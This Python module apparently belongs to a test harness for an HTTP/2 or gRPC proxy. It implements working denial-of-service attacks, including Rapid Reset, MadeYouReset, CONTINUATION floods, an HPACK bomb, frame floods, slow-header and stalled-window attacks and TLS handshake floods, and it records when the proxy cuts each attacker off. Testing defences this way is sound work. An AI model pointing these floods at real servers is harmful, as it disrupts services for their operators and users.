"""What abusive clients do, frame by frame; run as a program, so that the attack does not slow down whoever measures it.

    python -m harness.abuses NAME ADDRESS SECONDS [--once] [--at TIME]

attacks until the time is over (with `--once`: until it is cut off for the first time) and prints one JSON object: frames and
connections made, how often and with which code the attacker was cut off, and after how many seconds and frames the first time.
`--at`: begins when the machine's monotonic clock says so, and not when Python has started.

An attacker sends as fast as its socket takes it, until its attack has nothing more to send. DATA keeps within the peer's windows,
as what is sent beyond them ends a connection for that alone.
"""
import argparse
import dataclasses
import functools
import itertools
import json
import select
import socket
import ssl
import struct
import time
from collections.abc import Callable

from .frames import PREFACE
from .ports import split
from .raw_load import literal

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


OPENING = PREFACE + frame(SETTINGS)
PATH = "/bench.Echo/Unary.grpc"
LARGE = "/large.bin"
GREETER = "/helloworld.Greeter/SayHello"
REQUEST = (b"\x83\x86" + b"\x04" + bytes([len(PATH)]) + PATH.encode() + b"\x01\x04test"
           + literal("content-type", "application/grpc"))
# To the server that waits for the message.
GREETING = (b"\x83\x86" + b"\x04" + bytes([len(GREETER)]) + GREETER.encode() + b"\x01\x04test"
            + literal("content-type", "application/grpc") + literal("te", "trailers"))
GET_LARGE = b"\x82\x86" + b"\x04" + bytes([len(LARGE)]) + LARGE.encode() + b"\x01\x04test"


def endlessly(frames, count):
    """A chunk of `count` frames, again and again."""
    return lambda: itertools.repeat((frames, count))


def on_streams(make, per_stream, batch=50):
    """`make(stream)` gives the frames of one stream; stream numbers go up."""
    def chunks():
        for first in range(1, 1 << 30, 2 * batch):
            streams = range(first, first + 2 * batch, 2)
            yield b"".join(make(stream) for stream in streams), per_stream * batch
    return chunks


def within_a_request(frames, count):
    """One request that stays open, then the frames without end."""
    def chunks():
        yield frame(HEADERS, END_HEADERS, 1, REQUEST), 1
        yield from itertools.repeat((frames, count))
    return chunks


def whole_requests(data, count, chunks):
    """One request after the other, each of `chunks` times `count` frames of DATA with the same in it, with its end in the last."""
    def generate():
        for stream in range(1, 1 << 30, 2):
            yield frame(HEADERS, END_HEADERS, stream, REQUEST), 1
            chunk = frame(DATA, 0, stream, data) * count
            yield from itertools.repeat((chunk, count), chunks - 1)
            yield frame(DATA, 0, stream, data) * (count - 1) + frame(DATA, END_STREAM, stream, data), count
    return generate


def once(frames, count):
    """The frames, and then nothing more."""
    def chunks():
        yield frames, count
        while True:
            yield b"", 0
    return chunks


# All of RFC 9113 §7, and some that nobody has defined.
RESET_CODES = [*range(14), 0xe, 0xff, 0x7fffffff, 0xffffffff]


def reset(stream, code=0x8):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST) + frame(RST_STREAM, 0, stream, code.to_bytes(4, "big"))


def code_of(stream):
    """Another one for each stream in turn."""
    return RESET_CODES[stream // 2 % len(RESET_CODES)]


def ask(stream, block=REQUEST, flags=END_HEADERS | END_STREAM):
    return frame(HEADERS, flags, stream, block)


def made_reset(stream):
    """A request, and a mistake for which its stream is reset (RFC 9113 §6.9)."""
    return ask(stream, flags=END_HEADERS) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")


@functools.cache
def many_fields(count):
    return b"".join(b"\x40\x02x" + bytes([97 + n % 26]) + b"\x02" + b"%02d" % (n % 100) for n in range(count))


# One field of 4,000 octets goes into the table; then each octet names it again.
BOMB = REQUEST + b"\x40\x01a\x7f" + bytes([(4000 - 127) & 0x7f | 0x80, (4000 - 127) >> 7]) + b"x" * 4000 + b"\xbe" * 12000


@dataclasses.dataclass(frozen=True)
class Attack:
    """`kind`: how the proxy counts it; `None`: it is not cut off, as a client may do that, and others must not suffer.

    A chunk that begins with DATA has frames of one size alone, of the stream that the last HEADERS opened.
    """
    kind: str | None
    chunks: Callable
    opening: bytes = OPENING
    reads: bool = True
    tls: bool = False
    connections: int = 1          # at a time
    what: str = ""


ATTACKS = {
    "rapid reset": Attack("rapid_reset", on_streams(reset, 2), what="CVE-2023-44487"),
    "rapid reset, NO_ERROR": Attack("rapid_reset", on_streams(lambda s: reset(s, 0), 2), what="CVE-2023-44487"),
    "rapid reset, every code": Attack(
        "rapid_reset", on_streams(lambda s: reset(s, code_of(s)), 2), what="CVE-2023-44487"),
    "made you reset, NO_ERROR between": Attack(
        "made_you_reset", on_streams(lambda s: made_reset(s) if s % 4 == 1 else reset(s, 0), 2), what="CVE-2025-8671"),
    "made you reset": Attack(
        "made_you_reset", on_streams(made_reset, 2),
        what="CVE-2025-8671"),
    "streams beyond the limit": Attack(
        "made_you_reset", on_streams(lambda s: ask(s, GET_LARGE), 1),
        opening=PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)), what="RFC 9113 §5.1.2"),
    "empty CONTINUATION": Attack(
        "continuation_flood",
        lambda: itertools.chain([(frame(HEADERS, 0, 1, b"\x82"), 1)], itertools.repeat((frame(CONTINUATION, 0, 1) * 50, 50))),
        what="CVE-2024-27316"),
    "large CONTINUATION": Attack(
        "continuation_flood",
        lambda: itertools.chain([(frame(HEADERS, 0, 1, b"\x82"), 1)],
                                itertools.repeat((frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x80\x7f" + b"x" * 16000), 1))),
        what="CVE-2024-27316"),
    "SETTINGS": Attack("settings_flood", endlessly(frame(SETTINGS) * 100, 100), what="CVE-2019-9515"),
    "SETTINGS ACK": Attack("settings_flood", endlessly(frame(SETTINGS, ACK) * 100, 100)),
    "PING": Attack("ping_flood", endlessly(frame(PING, 0, 0, b"12345678") * 100, 100), what="CVE-2019-9512"),
    "PING ACK": Attack("ping_flood", endlessly(frame(PING, ACK, 0, b"12345678") * 100, 100)),
    "empty DATA": Attack("empty_data_flood", within_a_request(frame(DATA, 0, 1) * 100, 100), what="CVE-2019-9518"),
    "padding alone": Attack("empty_data_flood", within_a_request(frame(DATA, PADDED, 1, b"\x05" + b"\0" * 5) * 100, 100)),
    "PRIORITY": Attack("priority_flood", endlessly(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 100, 100), what="CVE-2019-9513"),
    "empty names": Attack("made_you_reset", on_streams(lambda s: ask(s, REQUEST + b"\0\0\0" * 200), 1, batch=4),
                          what="CVE-2019-9516"),
    "WINDOW_UPDATE": Attack("window_update_flood", endlessly(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 500, 500)),
    "unknown frames": Attack("stray_frames", endlessly(frame(0x42, 0xff, 1) * 200, 200)),
    "HPACK bomb": Attack("oversized_headers", on_streams(lambda s: ask(s, BOMB), 1, batch=1), what="CVE-2016-1544"),
    "table thrash": Attack(
        "oversized_headers", on_streams(lambda s: ask(s, REQUEST + many_fields(2200)), 1, batch=1)),
    "large metadata": Attack(
        "oversized_headers",
        on_streams(lambda s: frame(HEADERS, END_STREAM, s, REQUEST) + b"".join(
            frame(CONTINUATION, END_HEADERS if n == 4 else 0, s, b"\0\x01a\x7f\x81\x7c" + b"x" * 16000) for n in range(5)),
            6, batch=1)),
    "large trailers": Attack(
        "oversized_headers",
        on_streams(lambda s: ask(s, flags=END_HEADERS) + frame(HEADERS, END_STREAM, s) + b"".join(
            frame(CONTINUATION, END_HEADERS if n == 4 else 0, s, b"\0\x01a\x7f\x81\x7c" + b"x" * 16000) for n in range(5)),
            7, batch=1)),
    "one octet a frame": Attack("tiny_data_flood", within_a_request(frame(DATA, 0, 1, b"\0") * 500, 500)),
    "tiny messages": Attack(
        None, whole_requests(b"\0\0\0\0\0", 500, 20), opening=OPENING + frame(WINDOW_UPDATE, 0, 0, b"\x3f\0\0\0")),
    "many fields": Attack("oversized_headers", on_streams(lambda s: ask(s, REQUEST + many_fields(1500)), 1, batch=1)),
    "stalled windows": Attack(
        "stalled_response", once(b"".join(ask(s, GET_LARGE) for s in range(1, 1000, 2)), 500),
        opening=PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))),
    "windows of one octet": Attack(
        "stalled_response",
        lambda: itertools.chain(
            [(b"".join(ask(s, GET_LARGE) for s in range(1, 1000, 2)), 500)],
            itertools.cycle([(b"".join(frame(WINDOW_UPDATE, 0, s, b"\0\0\0\1") for s in range(1, 100, 2)), 50)]
                            + [(b"", 0)] * 20)),
        opening=PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))),
    "unread socket": Attack(
        "unread_output", once(b"".join(ask(s, GET_LARGE) for s in range(1, 60, 2)), 30), reads=False,
        opening=PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30)) + frame(WINDOW_UPDATE, 0, 0, b"\x3f\0\0\0")),
    "slow headers": Attack("slow_headers", once(frame(HEADERS, 0, 1, REQUEST), 1)),
    "half a frame": Attack("slow_headers", once(ask(1)[:20], 1)),
    "slow body": Attack(
        "slow_body", once(frame(HEADERS, END_HEADERS, 1, GREETING) + frame(DATA, 0, 1, b"\0\0\0\1\0half"), 1)),
    "slow preface": Attack("handshake_timeout", once(PREFACE[:10], 0), opening=b""),
    "connections": Attack("connections", once(b"", 0), connections=40),
    "TLS handshakes": Attack("handshakes", once(b"", 0), opening=b"", tls=True, connections=40),
    "silent TLS": Attack("pending_handshakes", once(b"", 0), opening=b"\x16\x03\x01", connections=150),
}


class Attacker:
    """One connection of an attack at work; never blocks."""

    def __init__(self, attack, address):
        self.attack = attack
        self.began = time.monotonic()
        self.sock = socket.socket()
        if not attack.reads:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.sock.settimeout(5)
        self.sock.connect(split(address))
        if attack.tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(self.sock)
        self.sock.setblocking(False)
        self.chunks = attack.chunks()
        self.left = memoryview(attack.opening)
        self.frames = 0
        self.input = bytearray()
        self.answers = []
        self.rest = (b"", 0)          # DATA that waits for windows
        self.stream = 1               # of DATA
        self.stream_is_over = False
        self.window = self.initial_window = self.connection_window = 65535
        self.idle = False             # nothing to send, for now at least
        self.code = None
        self.done = False

    def step(self):
        """Sends and reads what there is to send and read; afterwards `done` says whether the connection is over."""
        try:
            self._send()
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            pass
        except OSError:
            self.done = True
        if self.attack.reads or self.done:
            self._receive()
        elif not self.done:
            # Whether the peer has gone shows without reading.
            poll = select.poll()
            poll.register(self.sock, select.POLLRDHUP | select.POLLHUP | select.POLLERR)
            self.done = bool(poll.poll(0))

    def _send(self):
        for _ in range(8):
            if not self.left:
                chunk, count = self._next()
                self.idle = not chunk
                if self.idle:
                    return
                self.left, self.frames = memoryview(chunk), self.frames + count
            self.left = self.left[self.sock.send(self.left):]

    def _next(self):
        """What to send next, and how many of the attack's frames that is; of DATA as much as the windows have room for."""
        if self.answers:
            return self.answers.pop(0), 0
        (chunk, count), self.rest = self.rest, (b"", 0)
        if not chunk or self.stream_is_over:
            chunk, count = next(self.chunks)
        while self.stream_is_over and self.attack.kind is None and chunk[3] == DATA:
            chunk, count = next(self.chunks)
        if len(chunk) < 9 or chunk[3] not in (DATA, HEADERS):
            return chunk, count
        stream = int.from_bytes(chunk[5:9], "big")
        if chunk[3] == HEADERS:
            self.stream, self.stream_is_over, self.window = stream, False, self.initial_window
            return chunk, count
        octets = int.from_bytes(chunk[:3], "big")
        if not octets:
            return chunk, count
        fits = max(0, min(count, min(self.window, self.connection_window) // octets))
        self.window -= fits * octets
        self.connection_window -= fits * octets
        size = fits * (9 + octets)
        self.rest = (chunk[size:], count - fits)
        return chunk[:size], fits

    def _receive(self):
        try:
            while True:
                more = self.sock.recv(1 << 18)
                if not more:
                    self.done = True
                    break
                self.input += more
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.done = True
        position, end = 0, len(self.input)
        while end - position >= 9:
            after = position + 9 + int.from_bytes(self.input[position:position + 3], "big")
            if after > end:
                break
            # Answers to a flood are many: they are not taken apart.
            if self.input[position + 3] not in (PING, DATA) or self.attack.kind is None:
                self._arrived(self.input[position:position + 9], self.input[position + 9:after])
            position = after
        del self.input[:position]

    def _arrived(self, head, payload):
        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
        if kind == GOAWAY:
            self.code = int.from_bytes(payload[4:8], "big")
        elif kind == RST_STREAM and self.attack.kind == "stalled_response" and payload == b"\0\0\0\x0b":
            self.code = 0xb
        elif kind == HEADERS and flags & END_STREAM and self.attack.kind == "slow_body":
            self.done = True
        elif kind == WINDOW_UPDATE and stream == 0:
            self.connection_window += int.from_bytes(payload, "big")
        elif kind == WINDOW_UPDATE and stream == self.stream:
            self.window += int.from_bytes(payload, "big")
        elif kind == RST_STREAM and stream == self.stream:
            self.stream_is_over = True
        elif kind == SETTINGS and not flags & ACK:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == 4:
                    self.window += value - self.initial_window
                    self.initial_window = value
            self._answer(frame(SETTINGS, ACK))
        elif kind == PING and not flags & ACK:
            self._answer(frame(PING, ACK, 0, payload))

    def _answer(self, octets):
        """Who does only what a client may do answers as well."""
        if self.attack.kind is None:
            self.answers.append(octets)

    def close(self):
        self.sock.close()


def attack(name, address, seconds, only_once=False):
    """Runs an attack and returns what became of it."""
    kind = ATTACKS[name]
    result = {"frames": 0, "connections": 0, "cut_off": 0, "codes": [], "first_cut": None, "first_frames": None,
              "refused": 0}
    start = time.monotonic()
    at_work = []
    while time.monotonic() - start < seconds and not (only_once and result["cut_off"] >= kind.connections):
        while len(at_work) < kind.connections:
            try:
                at_work.append(Attacker(kind, address))
                result["connections"] += 1
            except OSError:
                result["refused"] += 1
                if time.monotonic() - start >= seconds:
                    break
        for one in list(at_work):
            before = one.frames
            one.step()
            result["frames"] += one.frames - before
            stalled = one.code == 0xb and kind.kind == "stalled_response"
            if kind.kind is None and one.code == 0:
                # The connection has had its requests: a client goes on with another.
                one.close()
                at_work.remove(one)
            elif one.done or stalled:
                result["cut_off"] += 1
                result["codes"] = sorted({*result["codes"], -1 if one.code is None else one.code})
                if result["first_cut"] is None:
                    result["first_cut"], result["first_frames"] = time.monotonic() - one.began, one.frames
                if stalled and not one.done and not only_once:
                    one.code = None
                    continue
                one.close()
                at_work.remove(one)
            elif kind.tls and one.sock.version():
                # The handshake is what costs.
                one.close()
                at_work.remove(one)
        poll = select.poll()
        for one in at_work:
            poll.register(one.sock, (select.POLLIN if kind.reads else 0) | (0 if one.idle else select.POLLOUT))
        if not kind.tls and at_work:
            poll.poll(20)
    for one in at_work:
        one.close()
    return result


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--once", action="store_true")
    parser.add_argument("--at", type=float, default=0)
    arguments = parser.parse_args()
    time.sleep(max(0, arguments.at - time.monotonic()))
    print(json.dumps(attack(arguments.name, arguments.address, arguments.seconds, arguments.once)))


if __name__ == "__main__":
    main()
